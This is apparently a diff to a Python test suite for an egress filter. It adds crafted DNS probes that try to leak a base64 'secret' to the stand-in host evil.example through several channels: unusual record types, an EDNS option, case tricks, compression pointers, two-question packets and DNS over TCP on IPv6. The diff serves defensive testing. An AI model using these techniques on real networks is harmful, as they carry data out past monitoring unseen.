@@ -114,6 +114,12 @@ def question(name, kind=1):
     return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)
 
 
+def edns(asked, option):
+    """Beside the question the one record that a client may send, with an option that holds what it likes."""
+    held = struct.pack("!HH", 65001, len(option)) + option
+    return asked[:10] + b"\0\1" + asked[12:] + struct.pack("!BHHIH", 0, 41, 4096, 0, len(held)) + held
+
+
 def hello(name):
     sni = b"\0" + struct.pack("!H", len(name)) + name.encode()
     body = struct.pack("!H", len(sni)) + sni
@@ -139,6 +145,14 @@ attack("dns-udp4")(lambda n: send(d4(n), 53, question("evil.example")))
 attack("dns-udp6")(lambda n: send(d6(n), 53, question("evil.example")))
 attack("dns-allowed")(lambda n: send(d4(n), 53, question("allowed.example"), wait_s=ANSWER_S))
 attack("dns-txt-tunnel")(lambda n: send(d4(n), 53, question("c2VjcmV0.evil.example", 16)))
+# Kinds that carry more than an address, a record that carries anything, a name in capitals, one that points at itself.
+for title, kind in (("any", 255), ("https", 65), ("svcb", 64), ("srv", 33), ("transfer", 252)):
+    attack(f"dns-{title}")(lambda n, kind=kind: send(d4(n), 53, question("c2VjcmV0.evil.example", kind)))
+attack("dns-edns")(lambda n: send(d4(n), 53, edns(question("c2VjcmV0.evil.example"), b"exfiltrated")))
+attack("dns-capitals")(lambda n: send(d4(n), 53, question("SeCrEt.EVIL.example")))
+attack("dns-pointer")(lambda n: send(d4(n), 53, question("")[:12] + b"\x05exfil\xc0\x0c\0\x01\0\x01"))
+attack("dns-two-questions")(lambda n: send(d4(n), 53, b"\0\7\1\0\0\2" + question("allowed.example")[6:] + question("c2VjcmV0.evil.example")[12:]))
+attack("dns-tcp6")(lambda n: connect(d6(n), 53, b"\0\x1e" + question("evil.example")))
 attack("dns-tcp4")(lambda n: connect(d4(n), 53, b"\0\x1e" + question("evil.example")))
 attack("not-dns-on-53")(lambda n: send(d4(n), 53, b"exfiltrated"))
 attack("sni-evil")(lambda n: connect(d4(n), 443, hello("evil.example")))
